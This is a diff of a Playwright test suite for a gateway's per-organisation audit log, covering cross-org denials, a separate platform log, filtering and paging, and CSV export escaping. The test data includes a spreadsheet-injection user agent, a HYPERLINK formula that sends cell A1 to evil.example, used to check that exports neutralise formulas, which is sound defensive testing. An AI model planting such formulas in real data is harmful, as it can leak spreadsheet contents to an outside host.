@@ -4,21 +4,28 @@ import { mintWithApiToken, mintWithCookie, snap } from './support/admin';
 import { DEMO, GATEWAY_URL, storageStatePath } from './support/env';
 import { expectVerified } from './support/pages';
 
-// Other tests make mints and denials (as bob, carol and an API token); the last one reads them in alice's audit log.
+// Other tests make mints and denials (as carol, bob and an API token); the later ones read them in alice's logs.
 test.describe.configure({ mode: 'serial' });
 
 const FORMULA_UA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
 const PROBES = 55;
+const OUTSIDER_UA = 'outsider-probe;=1+1';
 let apiTokenId = '';
 
 const rows = (page: Page) => page.getByTestId('audit-row');
 
 test.describe('activity', () => {
-  test('bob probes Acme’s app again and again (denied, recorded in Acme’s log)', async () => {
+  test('carol, a member of Acme acting in Globex, asks for Acme’s app again and again (denied, recorded in Acme’s log)', async () => {
+    const carol = await playwrightRequest.newContext({ baseURL: GATEWAY_URL, storageState: storageStatePath('carol') });
+    const first = await mintWithCookie(carol, 'run_acme_dashboard', { 'user-agent': FORMULA_UA });
+    expect(first.status()).toBe(403);
+    for (let i = 1; i < PROBES; i++) expect((await mintWithCookie(carol, 'run_acme_dashboard')).status()).toBe(403);
+    await carol.dispose();
+  });
+
+  test('bob, no member of Acme, probes its app (denied, recorded only in the platform log)', async () => {
     const bob = await playwrightRequest.newContext({ baseURL: GATEWAY_URL, storageState: storageStatePath('bob') });
-    const first = await mintWithCookie(bob, 'run_acme_dashboard', { 'user-agent': FORMULA_UA });
-    expect(first.status()).toBe(404);
-    for (let i = 1; i < PROBES; i++) expect((await mintWithCookie(bob, 'run_acme_dashboard')).status()).toBe(404);
+    expect((await mintWithCookie(bob, 'run_acme_dashboard', { 'user-agent': OUTSIDER_UA })).status()).toBe(404);
     await bob.dispose();
   });
 
@@ -67,23 +74,35 @@ test.describe('alice’s audit log', () => {
     await expect(token).toContainText('Public status page');
     await expect(token).toContainText('Weekly reports');
 
-    const bob = rows(page).filter({ hasText: DEMO.bob.email }).first();
-    await expect(bob).toHaveAttribute('data-result', 'denied');
-    await expect(bob).toHaveAttribute('data-code', 'not_found');
-    await expect(bob).toContainText(/\d+\.\d+\.\d+\.\d+|::1|—/);
+    const refused = page.locator(`[data-testid="audit-row"][data-user-id="${DEMO.carol.id}"][data-result="denied"]`).first();
+    await expect(refused).toHaveAttribute('data-code', 'org_mismatch');
+    await expect(refused).toContainText(/\d+\.\d+\.\d+\.\d+|::1|—/);
+    // An outsider's probe is not Acme's business, nor can an outsider write into Acme's log.
+    await expect(page.locator(`[data-testid="audit-row"][data-user-id="${DEMO.bob.id}"]`)).toHaveCount(0);
     await snap(page, testInfo, 'audit-log');
+  });
+
+  test('the platform log shows the outsider’s probe; bob’s probe is nowhere in Acme’s export', async ({ page }) => {
+    await page.goto('/admin/platform-log');
+    const probe = page.locator(`[data-testid="audit-row"][data-user-id="${DEMO.bob.id}"]`).first();
+    await expect(probe).toHaveAttribute('data-code', 'not_found');
+    await expect(probe).toHaveAttribute('data-app-id', 'run_acme_dashboard');
+    await expect(page.locator(`[data-testid="audit-row"][data-user-id="${DEMO.carol.id}"]`)).toHaveCount(0);
+    const csv = await (await page.request.get('/admin/audit/export')).text();
+    expect(csv).not.toContain(DEMO.bob.id);
+    expect(csv).not.toContain(OUTSIDER_UA);
   });
 
   test('filters by user and result, and pages 50 at a time on the server', async ({ page }) => {
     await page.goto('/admin/audit');
-    await page.getByLabel('User').selectOption(DEMO.bob.id);
+    await page.getByLabel('User').selectOption(DEMO.carol.id);
     await page.getByLabel('Result').selectOption('denied');
     await page.getByRole('button', { name: 'Apply filters' }).click();
-    await page.waitForURL(/user=usr_bob/);
+    await page.waitForURL(/user=usr_carol/);
     expect(new URL(page.url()).searchParams.get('result')).toBe('denied');
     await expect(rows(page)).toHaveCount(50);
     for (const r of await rows(page).all()) {
-      await expect(r).toHaveAttribute('data-user-id', DEMO.bob.id);
+      await expect(r).toHaveAttribute('data-user-id', DEMO.carol.id);
       await expect(r).toHaveAttribute('data-result', 'denied');
     }
     const firstPageIds = await rows(page).evaluateAll((els) => els.map((e) => e.getAttribute('data-event-id')));
@@ -93,7 +112,7 @@ test.describe('alice’s audit log', () => {
     const older = await rows(page).count();
     expect(older).toBeGreaterThanOrEqual(PROBES - 50);
     expect(older).toBeLessThan(50);
-    for (const r of await rows(page).all()) await expect(r).toHaveAttribute('data-user-id', DEMO.bob.id);
+    for (const r of await rows(page).all()) await expect(r).toHaveAttribute('data-user-id', DEMO.carol.id);
     const olderIds = await rows(page).evaluateAll((els) => els.map((e) => e.getAttribute('data-event-id')));
     expect(olderIds.some((t) => firstPageIds.includes(t))).toBe(false);
     await expect(page.getByTestId('audit-older')).toHaveCount(0);
@@ -112,7 +131,7 @@ test.describe('alice’s audit log', () => {
 
     const lastHour = new Date(Date.now() - 3_600_000).toISOString().slice(0, 16);
     const now = new Date(Date.now() + 60_000).toISOString().slice(0, 16);
-    await page.goto(`/admin/audit?from=${lastHour}&to=${now}&user=usr_bob`);
+    await page.goto(`/admin/audit?from=${lastHour}&to=${now}&user=usr_carol&result=denied`);
     await expect(rows(page)).toHaveCount(50);
   });
 
@@ -133,17 +152,18 @@ test.describe('alice’s audit log', () => {
   });
 
   test('exports the filtered log as CSV, with formula cells kept as text', async ({ page }) => {
-    await page.goto('/admin/audit?user=usr_bob&result=denied');
+    await page.goto('/admin/audit?user=usr_carol&result=denied');
     const download = page.waitForEvent('download');
     await page.getByTestId('audit-export').click();
     const file = await download;
     expect(file.suggestedFilename()).toMatch(/^audit-org_acme-\d{4}-\d\d-\d\dT\d{6}Z\.csv$/);
     const csv = readFileSync((await file.path())!, 'utf8');
     const lines = csv.trimEnd().split('\r\n');
-    expect(lines[0]).toBe('time_utc,result,code,user_id,user_name,user_email,app_id,app_title,workflow_id,auth_via,api_token_id,ip,user_agent,jti');
+    expect(lines[0]).toBe('"time_utc","result","code","user_id","user_name","user_email","app_id","app_title","workflow_id","auth_via","api_token_id","ip","user_agent","jti"');
     expect(lines.length - 1).toBeGreaterThanOrEqual(PROBES);
-    for (const line of lines.slice(1)) expect(line).toMatch(/^[^,]+,denied,not_found,usr_bob,Bob Bauer,bob@globex\.test,run_acme_dashboard,/);
-    // The user agent bob sent is a formula: it is quoted, its quotes doubled, and prefixed so no spreadsheet runs it.
+    // Every text cell quoted, so no `;` inside one can start a formula cell in a `;` locale.
+    for (const line of lines.slice(1)) expect(line).toMatch(/^"[^"]+","denied","org_mismatch","usr_carol","Carol Chen","carol@example\.test","run_acme_dashboard",/);
+    // The user agent carol sent is a formula: it is quoted, its quotes doubled, and prefixed so no spreadsheet runs it.
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
     expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
 
